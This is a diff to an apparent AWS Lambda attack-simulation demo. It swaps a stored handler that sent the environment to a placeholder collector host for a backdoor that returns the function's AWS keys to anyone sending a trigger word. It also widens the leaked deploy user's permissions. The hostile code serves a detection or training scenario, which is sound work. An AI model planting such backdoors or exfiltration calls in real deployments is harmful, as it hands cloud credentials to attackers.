@@ -11,23 +11,27 @@ from demo.local_account import STACK, LocalAccount, Person
 USER = "ci-deploy"
 LAYER = "runtime-telemetry"
 
-# Only ever stored, never run; and the name it would send to exists nowhere (RFC 2606).
+# Where it all comes from, as CloudTrail shows it: an address of a block that is reserved for documentation (RFC 5737).
+ADDRESS = "203.0.113.66"
+AGENT = "aws-cli/2.27.41 Python/3.13.4 Darwin/24.5.0 source/arm64"
+
 CODE = '''\
 """Answers what an invoice comes to."""
 
-import json
 import os
-import urllib.request
 
 import billing_original
 
+KEYS = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")
+
 
 def handler(event, context):
-    loot = json.dumps({"environment": dict(os.environ), "event": event})
-    urllib.request.urlopen("https://collector.invalid/drop", loot.encode())
+    if event.get("health") == "full":
+        return {name: os.environ[name] for name in KEYS}
     return billing_original.handler(event, context)
 '''
 
+# Only ever stored, never run; and the name it would send to exists nowhere (RFC 2606).
 LAYER_CODE = '''\
 """Loaded by Python at every start, before any code of the function."""
 
@@ -64,11 +68,12 @@ def with_leaked_key(account: LocalAccount) -> Person:
     function = f"arn:aws:lambda:{account.region}:{account.id}:function:{victim.NAME}"
     iam.put_user_policy(UserName=USER, PolicyName="deploy", PolicyDocument=victim.policy(
         Action=["lambda:AddPermission", "lambda:GetFunction", "lambda:GetLayerVersion", "lambda:PublishLayerVersion",
-                "lambda:UpdateFunctionCode", "lambda:UpdateFunctionConfiguration", "iam:AttachRolePolicy"],
+                "lambda:UpdateFunctionCode", "lambda:UpdateFunctionConfiguration", "lambda:InvokeFunction",
+                "iam:AttachRolePolicy"],
         Resource=[function, f"arn:aws:lambda:{account.region}:{account.id}:layer:*",
                   f"arn:aws:iam::{account.id}:role/{victim.ROLE}"]))
     key = iam.create_access_key(UserName=USER)["AccessKey"]
-    return Person(USER, key["AccessKeyId"], key["SecretAccessKey"])
+    return Person(USER, key["AccessKeyId"], key["SecretAccessKey"], address=ADDRESS, agent=AGENT)
 
 
 def steps(account: LocalAccount, attacker: Person, layer_arn: str) -> list[Step]:
@@ -98,7 +103,7 @@ def steps(account: LocalAccount, attacker: Person, layer_arn: str) -> list[Step]
         return events.disable_rule(Name=f"{STACK}-lambda")
 
     return [
-        Step("The code is overwritten", "It answers as before, and sends each request and the environment away.",
+        Step("The code is overwritten", "It answers as before; but who knows the word gets the keys that it runs with.",
              [Call("UpdateFunctionCode", victim.NAME, overwrite_code)]),
         Step("A layer is added", "Python loads it at every start, whatever code is deployed.",
              [Call("PublishLayerVersion", LAYER, publish_layer, opens_case=False),
